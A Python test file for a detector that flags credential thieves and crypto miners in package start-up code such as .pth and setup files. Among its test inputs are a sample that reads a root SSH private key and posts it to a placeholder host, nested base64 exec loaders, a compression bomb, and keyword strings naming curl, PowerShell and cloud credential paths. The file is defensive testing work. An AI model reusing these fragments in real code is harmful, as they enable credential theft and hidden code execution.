"""Patterns of miners and thieves in start-up code. All samples are text, and none is ever run."""

from __future__ import annotations

import base64
import time
import zlib

import pytest
from tests.unit.packages.startup_samples import (
    ATTACKS,
    INNOCENT,
    SCRIPTS,
    THIEF,
    encoded,
)

from weighbridge.model.errors import BoundExceeded
from weighbridge.model.hijack.patterns import PATTERNS, described
from weighbridge.packages.hook_code import MAX_SOURCE
from weighbridge.packages.startup_patterns import startup_patterns


def found(text: str, kind: str = "module") -> set[str]:
    patterns = startup_patterns(text, kind=kind)
    assert patterns == tuple(sorted(set(patterns)))
    assert set(patterns) <= PATTERNS.keys()
    return set(patterns)


# ---- hostile text


@pytest.mark.parametrize(
    "text",
    [
        "", "\x00", "\ufeff", "\ud800", "(" * 100_000, "[" * 5_000 + "]" * 5_000,
        "-" * 100_000 + "1", "a" + ".b" * 50_000, "x = " + "+".join(["'a'"] * 20_000),
        "f(" * 150 + ")" * 150, "not " * 50_000 + "x", "1" * 10_000, "def f(:\n", "\r\n" * 1000,
        "x" * 2**20, "if 1:\n" + "".join(f"{' ' * n}if 1:\n" for n in range(1, 99)),
        "lambda:" * 3_000,
        "exec(" * 90 + "b" + ")" * 90, "\u202e\u2066exec\x1b[2J", "import " * 1000,
        "'" + "\\x41" * 10_000 + "'", "a=b=" * 5_000 + "1", "x[" * 90 + "'a'" + "]" * 90,
        "'a'" + "[::-1]" * 3_000, "getattr(" * 80 + "os,'system')" + ",'x')" * 79,
    ],
    ids=range(25),
)  # fmt: skip
@pytest.mark.parametrize("kind", ["pth", "module", "setup", "script"])
def test_hostile_text_is_no_pattern_and_no_error(text, kind) -> None:
    assert found(text, kind) == set()


def test_a_longer_text_than_the_bound_is_not_judged() -> None:
    with pytest.raises(BoundExceeded):
        startup_patterns("x" * (MAX_SOURCE + 1), kind="module")


def test_an_unknown_kind_is_a_mistake_of_the_caller() -> None:
    with pytest.raises(ValueError, match="is no kind"):
        startup_patterns("", kind="wheel")


@pytest.mark.parametrize(
    "text",
    [
        "curl " * 200_000, "curl x;" * 140_000, "base64 -d " * 100_000, "exec(" * 200_000,
        "/.ssh" * 200_000, "import os\n" + "x = os.environ\n" * 60_000,
        "d = '" + "QUFB" * 250_000 + "'", ";" + " " * 1_000_000,
        "powershell " * 90_000, "a=[" + "'~/.aws'," * 100_000 + "]",
        "eval(" + "Buffer.from(" * 80_000, "stratum" * 140_000, "iwr " * 200_000,
        "import base64\n" + "x = x + base64.b64decode(x)\n" * 35_000,
    ],
    ids=range(14),
)  # fmt: skip
@pytest.mark.parametrize("kind", ["module", "script"])
def test_long_text_is_judged_in_linear_time(text, kind) -> None:
    """Patterns with gaps in them took more than a minute for a megabyte."""
    start = time.process_time()
    startup_patterns(text[: MAX_SOURCE // 8], kind=kind)
    assert time.process_time() - start < 3


def test_wrapping_without_end_is_followed_some_levels_deep() -> None:
    text = THIEF
    for _ in range(3):
        text = f"import base64; exec(base64.b64decode('{encoded(text)}'))"
    assert found(text) == {"decodes-and-runs", "steals-credentials"}
    for _ in range(20):
        if len(text) < MAX_SOURCE // 2:
            text = f"import base64; exec(base64.b64decode('{encoded(text)}'))"
    assert found(text) == {"decodes-and-runs"}


def test_a_bomb_inside_is_not_unpacked_to_its_end() -> None:
    bomb = base64.b64encode(zlib.compress(b" " * 2**26)).decode()
    text = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{bomb}')))"
    assert found(text) == {"decodes-and-runs"}


def test_code_too_deep_for_the_parser_is_judged_by_its_words() -> None:
    deep = "x = " + "(" * 300 + ")" * 300
    assert found(f"{deep}\nexec(base64.b64decode('{encoded('x')}'))") == {"decodes-and-runs"}


# ---- what thieves and miners did


@pytest.mark.parametrize(("text", "expected"), ATTACKS, ids=range(len(ATTACKS)))
def test_what_attacks_did_is_named(text, expected) -> None:
    assert (
        found(text, "pth" if text.startswith("import os, subprocess, sys;") else "module")
        == expected
    )


def test_only_lines_that_run_count_in_a_pth() -> None:
    run = f"import base64;exec(base64.b64decode('{encoded(THIEF)}'))"
    assert found(f"./folder\n{run}\n", "pth") == {"decodes-and-runs", "steals-credentials"}
    assert found(f"\ufeff{run}", "pth")
    assert found(f"# {run}\n x;{run}\n", "pth") == set()
    two = "import os; p = '/root/.ssh/id_rsa'\nimport requests; requests.post('h', data=open(p))"
    assert found(two, "pth") == {"steals-credentials"}


def test_another_pythons_syntax_is_judged_by_its_words() -> None:
    assert found("print 'x'\nexec base64.b64decode('aW1wb3J0')", "setup") == {"decodes-and-runs"}


@pytest.mark.parametrize(("text", "expected"), SCRIPTS, ids=range(len(SCRIPTS)))
def test_scripts_are_judged_by_their_words(text, expected) -> None:
    assert found(text, "script") == expected


# ---- one innocent trait alone


@pytest.mark.parametrize("text", INNOCENT, ids=range(len(INNOCENT)))
def test_one_innocent_trait_is_no_pattern(text) -> None:
    assert found(text) == set()


def test_every_pattern_has_a_meaning() -> None:
    assert described(["mines", "?"]) == f"{PATTERNS['mines']}; ?"
